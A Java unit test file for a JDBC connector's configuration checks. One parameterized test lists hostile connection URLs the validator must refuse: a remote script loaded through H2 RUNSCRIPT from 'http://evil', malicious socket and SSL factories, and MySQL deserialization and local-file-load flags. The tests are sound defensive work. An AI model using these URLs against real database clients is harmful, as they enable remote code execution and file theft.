package io.tessera.connector.jdbc.internal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.tessera.connector.kit.Configurations;
import io.tessera.connector.spi.ConfigurationException;
import java.util.HashMap;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcSettingsTest {
  private static Map<String, Object> good() {
    Map<String, Object> settings = new HashMap<>();
    settings.put("url", "jdbc:postgresql://db.example.org/hr");
    settings.put("user", "provisioning");
    settings.put("_password", "secret");
    settings.put("userTable", "people");
    return settings;
  }

  private static JdbcConnector connector(Map<String, ?> settings) {
    return new JdbcConnector(
        Configurations.of(JdbcConnector.Config.class, settings), new Drivers());
  }

  @Test
  void good_settings_need_nobody_at_the_other_end() {
    connector(good()).close();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "url | ''",
        "url | postgresql://db.example.org/hr",
        "url | jdbc:nothing",
        "userTable | ' '",
        "userTable | .people",
        "userTable | hr.",
        "userIdColumn | ''",
        "userIds | sequence",
        "groupIds | sequence"
      })
  void a_setting_that_cannot_work_is_named(String property, String value) {
    Map<String, Object> settings = good();
    settings.put("groupTable", "teams");
    settings.put(property, value);
    assertThatThrownBy(() -> connector(settings))
        .isInstanceOfSatisfying(
            ConfigurationException.class,
            refused -> assertThat(refused.property()).isEqualTo(property));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:postgresql://db/hr?password=hunter2",
        "jdbc:mysql://root:hunter2@db/hr",
        "jdbc:sqlserver://db;databaseName=hr;password=hunter2",
        "jdbc:oracle:thin:scott/hunter2@//db:1521/hr",
        "jdbc:derby:/var/lib/tessera/db",
        "jdbc:derby:directory:db;create=true",
        "jdbc:postgresql://db/hr?socketFactory=evil.Factory",
        "jdbc:postgresql://db/hr?sslfactory=evil.Factory&sslfactoryarg=x",
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'",
        "jdbc:mysql://db/hr?autoDeserialize=true",
        "jdbc:mysql://db/hr?allowLoadLocalInfile=true"
      })
  void a_url_that_holds_a_password_or_makes_the_driver_do_more_is_refused(String url) {
    Map<String, Object> settings = good();
    settings.put("url", url);
    assertThatThrownBy(() -> connector(settings))
        .isInstanceOf(ConfigurationException.class)
        .hasMessageContaining("url")
        .hasMessageNotContaining("hunter2");
  }

  @ParameterizedTest
  @CsvSource({
    "poolSize, 0",
    "poolSize, 1000",
    "connectTimeoutMillis, 1",
    "responseTimeoutMillis, -1"
  })
  void a_number_out_of_bounds_is_named(String property, int value) {
    Map<String, Object> settings = good();
    settings.put(property, value);
    assertThatThrownBy(() -> connector(settings))
        .isInstanceOf(ConfigurationException.class)
        .hasMessageContaining(property);
  }

  @Test
  void a_filter_is_a_column_and_a_value() {
    Map<String, Object> settings = good();
    settings.put("userFilter", new String[] {"tenant"});
    assertThatThrownBy(() -> connector(settings)).hasMessageContaining("userFilter");
  }

  @Test
  void states_that_are_the_same_are_refused() {
    Map<String, Object> activity = good();
    activity.put("activeColumn", "active");
    activity.put("disabledValue", "true");
    assertThatThrownBy(() -> connector(activity)).hasMessageContaining("disabledValue");
    Map<String, Object> deletion = good();
    deletion.put("userDeletedColumn", "deleted");
    deletion.put("userDeletedValue", "0");
    deletion.put("userPresentValue", "0");
    assertThatThrownBy(() -> connector(deletion)).hasMessageContaining("userDeletedValue");
  }

  @ParameterizedTest
  @CsvSource({
    "userIds, uuid, createUser",
    "userIds, attribute, createUser",
    "groupIds, uuid, createGroup"
  })
  void a_function_that_returns_the_id_needs_a_database_that_makes_it(
      String property, String ids, String action) {
    Map<String, Object> settings = good();
    settings.put("groupTable", "teams");
    settings.put("procedures", new String[] {action + " = {:id = call make(:name)}"});
    connector(settings).close();
    settings.put(property, ids);
    assertThatThrownBy(() -> connector(settings))
        .isInstanceOf(ConfigurationException.class)
        .hasMessageContaining("procedures: " + action)
        .hasMessageContaining(property);
  }

  @Test
  void memberships_need_groups() {
    Map<String, Object> settings = good();
    settings.put("membershipTable", "team_people");
    assertThatThrownBy(() -> connector(settings)).hasMessageContaining("membershipTable");
  }

  @Test
  void the_password_is_in_no_text() {
    JdbcSettings settings = JdbcSettings.of(Configurations.of(JdbcConnector.Config.class, good()));
    assertThat(settings.toString()).doesNotContain("secret");
  }
}
